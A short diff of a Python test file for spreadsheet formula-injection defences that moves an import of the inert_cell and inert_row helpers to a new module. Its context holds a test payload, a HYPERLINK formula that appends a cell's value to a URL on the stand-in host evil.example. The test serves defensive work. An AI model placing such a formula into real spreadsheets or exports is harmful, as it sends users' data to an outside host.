@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from server.cli.spreadsheet import inert_cell, inert_row
+from server.ward.spreadsheet import inert_cell, inert_row
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
